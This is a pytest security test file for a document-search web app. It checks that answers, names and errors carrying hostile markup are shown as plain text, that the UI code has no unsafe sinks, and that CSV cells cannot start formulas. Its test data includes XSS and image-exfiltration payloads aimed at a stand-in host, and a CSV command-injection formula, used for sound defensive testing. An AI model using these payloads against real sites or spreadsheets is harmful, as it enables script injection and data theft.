"""Markup in answers, titles, names, errors: carried as text, shown as text, followed by nobody."""

import csv
import io
import json
import re
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest

from citewell.cli.output import Form, show
from tests.journeys.conftest import Server, add, settled, shared

RENDER = Path(__file__).parent / "page" / "render.mjs"
UI = Path(__file__).parents[2] / "src" / "citewell" / "ui"
# All that the page is made of; a picture, a frame or a link to elsewhere is not among it.
ELEMENTS = frozenset(
    [
        "html",
        "head",
        "body",
        "article",
        "aside",
        "button",
        "code",
        "details",
        "div",
        "h2",
        "h3",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "section",
        "span",
        "strong",
        "summary",
        "sup",
    ]
)
ATTRIBUTES = frozenset(
    [
        "aria-busy",
        "aria-hidden",
        "aria-label",
        "class",
        "data-phase",
        "hidden",
        "role",
        "tabindex",
        "title",
        "type",
    ]
)
EXFILTRATING = [
    "![a](https://e.example/?q=secret)", "![a][r]\n\n[r]: https://e.example/?q=secret",
    "[a](https://e.example/?q=secret)", "<https://e.example/?q=secret>", "https://e.example/?q=s",
    "[![a](https://e.example/i)](https://e.example/?q=s)", '<img src="https://e.example/?q=s">',
    "![a](data:image/svg+xml;base64,PHN2Zy8+)", "[a](javascript&#58;alert(1))",
    "[a](JaVaScRiPt:alert(1))", "[a](\tjavascript:alert(1))", "![a](hттps://е.example/)",
    "![a](//e.example/?q=s)", "![a](\\\\e.example\\x)", "[a]: https://e.example/ 'onload=alert(1)'",
    "<a href='&#x6a;avascript:alert(1)'>a</a>", "**[a](https://e.example/?q=s)**",
    "`[a](https://e.example)`", "![a](https://e.example/ \"t\" onerror=alert(1))",
    "<svg><use href='https://e.example/#x'/></svg>", "<link rel=prefetch href=//e.example>",
]  # fmt: skip


def hostile() -> list[str]:
    """Every line of the corpus, and ways to make a page fetch what tells what it knows."""
    lines: set[str] = set(EXFILTRATING)
    for path in sorted(shared("security/xss").rglob("*")):
        if path.is_file() and not path.name.startswith("LICENSE"):
            lines |= set(path.read_text("utf-8", "replace").splitlines())
    found = sorted(line for line in lines if line.strip())
    assert len(found) > 1_000
    return found


def rendered(texts: Sequence[str]) -> list[str]:
    done = subprocess.run(
        ["node", str(RENDER)],
        input=json.dumps(texts), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    shown: list[str] = json.loads(done.stdout)
    return shown


def test_the_page_shows_hostile_markup_as_text_wherever_it_stands() -> None:
    texts = hostile()
    for text, html in zip(texts, rendered(texts), strict=True):
        root: Element = html5lib.parse(html, namespaceHTMLElements=False)
        for element in root.iter():
            assert element.tag in ELEMENTS, (text, element.tag)
            assert set(element.attrib) <= ATTRIBUTES, (text, element.attrib)
        # It was shown, and not merely left out: the heading of a turn is the question itself.
        headings = ["".join(found.itertext()) for found in root.iter("h2")]
        assert " ".join(headings[0].split()) == " ".join(text.replace("\0", "").split()), text


def test_no_module_of_the_page_parses_markup_or_runs_text() -> None:
    sinks = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment"
        r"|setHTMLUnsafe|srcdoc|\beval\(|new Function|setTimeout\(\s*[\"'`]|javascript:"
    )
    for path in sorted(UI.rglob("*.js")):
        assert not sinks.search(path.read_text("utf-8")), path.name
    page = (UI / "index.html").read_text("utf-8")
    assert not re.search(
        r"\son\w+=|<script(?![^>]*\ssrc=)|\sstyle=|\s(?:src|href|action)=.https?:", page
    )


def test_replies_carry_hostile_markup_inertly(server: Server, seed: int) -> None:
    drawn = hostile()[seed % 37 :: 37]
    with server.client() as client:
        for number, text in enumerate(drawn):
            replies = [
                client.get("/api/v1/documents", params={"collection": text[:100]}),
                client.get("/api/v1/documents", params={text[:200]: "x"}),
                client.post("/query", json={"input": text[:8000], text[:50]: 1}),
                client.post("/api/v1/collections", json={"name": text[:100], "description": text}),
                client.get(f"/ui/{number}", params={"x": text[:500]}),
            ]
            for reply in replies:
                kind = reply.headers["content-type"]
                assert kind in {"application/json", "application/problem+json"}, text
                assert reply.headers["x-content-type-options"] == "nosniff"
                json.loads(reply.text)
        name = "<img src=x onerror=alert(1)>.html"
        document = add(client, name, b"<script>alert(1)</script><p>The lamp")["id"]
        settled(client, document)
        original = client.get(f"/api/v1/documents/{document}/original")
        assert original.headers["content-type"] == "application/octet-stream"
        assert original.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in original.headers["content-security-policy"]
        assert "\n" not in original.headers["content-disposition"]


def formulas() -> list[str]:
    text = (shared("security/csv-injection") / "CSV Injection/README.md").read_text("utf-8")
    blocks = re.findall(r"```\w*\n(.*?)```", text, re.DOTALL)
    found = [line for block in blocks for line in block.splitlines() if line.strip()]
    assert len(found) > 10
    prefixed = [f"{start}{line}" for line in found[:5] for start in ("\t", "\r", " ", "\n", "＝")]
    return [*found, *prefixed, "=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1"]


def test_no_cell_of_a_written_table_is_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[dict[str, Any]] = [{"id": "1", "title": text} for text in formulas()]
    show(rows, ["id", "title"], Form.CSV)
    cells = [row[1] for row in csv.reader(io.StringIO(capsys.readouterr().out))][1:]
    assert len(cells) == len(rows)
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
